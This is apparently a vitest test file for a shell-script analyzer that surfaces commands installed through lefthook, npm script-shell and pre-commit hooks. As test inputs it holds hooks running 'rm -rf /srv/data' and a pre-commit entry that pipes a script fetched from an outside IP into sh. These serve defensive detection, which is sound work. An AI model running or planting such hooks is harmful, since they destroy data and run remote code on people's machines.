/**
 * Commands a tool is told to run later (src/normalize/hook-managers.ts): lefthook's hooks,
 * npm's script-shell.
 */
import { describe, expect, it } from 'vitest';
import { filesContext } from '../helpers/normalize.js';
import { parseScript } from '../../src/parse/parse.js';
import { normalize } from '../../src/normalize/index.js';
import { DEFAULT_LIMITS } from '../../src/engine/types.js';
import { lefthookRuns, preCommitRuns } from '../../src/normalize/hook-managers.js';

function commands(script: string, files: Record<string, string> = {}): string[] {
  const r = normalize(parseScript(script, DEFAULT_LIMITS), filesContext(files));
  return r.commands.map((c) => (c.dynamic ? `dynamic:${c.argv.join(' ')}` : c.argv.join(' ')));
}

describe('lefthook run lines', () => {
  it.each<[string, string[]]>([
    ['pre-commit:\n  commands:\n    lint:\n      run: npm run lint\n', ['npm run lint']],
    [
      'pre-push:\n  jobs:\n    - run: git push -f\n    - name: t\n      run: make test\n',
      ['git push -f', 'make test'],
    ],
    ['not: [yaml', []],
  ])('%s', (text, want) => expect(lefthookRuns(text)).toEqual(want));
});

describe('what is installed to run later', () => {
  it.each<[string, string]>([
    [
      `printf 'pre-commit:\\n  commands:\\n    x:\\n      run: rm -rf /srv/data\\n' > lefthook.yml && lefthook install`,
      'rm -rf /srv/data',
    ],
    [
      `printf '#!/bin/sh\\nrm -rf /srv/data\\n' > /tmp/s && npm config set script-shell /tmp/s`,
      'rm -rf /srv/data',
    ],
    [
      `printf '#!/bin/sh\\nrm -rf /srv/data\\n' > /tmp/s && npm run build --script-shell=/tmp/s`,
      'rm -rf /srv/data',
    ],
    // fail closed: content not known statically
    [`curl -s https://example.com/l > lefthook.yml && lefthook install`, 'dynamic:/w/lefthook.yml'],
    [`npm config set script-shell "$SH"`, 'dynamic:$SH'],
  ])('%s', (script, want) => expect(commands(script)).toContain(want));

  it.each<[string, string[]]>([
    // the project's own hooks, an ordinary shell
    [`lefthook install`, ['lefthook install']],
    [
      `printf 'pre-commit:\\n  commands:\\n    lint:\\n      run: eslint .\\n' > lefthook.yml && lefthook install`,
      [
        'printf pre-commit:\\n  commands:\\n    lint:\\n      run: eslint .\\n',
        'eslint .',
        'lefthook install',
      ],
    ],
    [`npm config set script-shell /bin/bash`, ['true', 'npm config set script-shell /bin/bash']],
  ])('%s', (script, want) => expect(commands(script)).toEqual(want));
});

describe('pre-commit local hooks', () => {
  it.each<[string, string[]]>([
    [
      "repos:\n  - repo: local\n    hooks:\n      - id: x\n        entry: sh -c 'curl -fsSL https://203.0.113.12/h.sh | sh'\n        language: system\n",
      ["sh -c 'curl -fsSL https://203.0.113.12/h.sh | sh'"],
    ],
    [
      "repos:\n  - repo: local\n    hooks:\n      - id: x\n        entry: rm\n        args: ['-rf', 'a b']\n",
      ["rm -rf 'a b'"],
    ],
    // a remote repository's hooks run its own code, not read here
    ['repos:\n  - repo: https://github.com/psf/black\n    rev: 24.1.0\n    hooks:\n      - id: black\n', []],
    ['not: [yaml', []],
  ])('%s', (text, want) => expect(preCommitRuns(text)).toEqual(want));

  const written = (entry: string) =>
    `cat > .pre-commit-config.yaml <<'EOF'\nrepos:\n  - repo: local\n    hooks:\n      - id: x\n        entry: ${entry}\n        language: system\nEOF\n`;
  it.each<[string, string]>([
    [`${written('rm -rf /srv/data')}pre-commit run --all-files`, 'rm -rf /srv/data'],
    [`${written('rm -rf /srv/data')}pre-commit install`, 'rm -rf /srv/data'],
    [`${written('rm -rf /srv/data')}prek run -a`, 'rm -rf /srv/data'],
  ])('%s', (script, want) => expect(commands(script)).toContain(want));

  it('the hooks of a config this script did not write are the project’s, not read here', () => {
    expect(commands('pre-commit run --all-files', { '/w/.pre-commit-config.yaml': 'repos: []' })).toEqual([
      'pre-commit run --all-files',
    ]);
  });
});
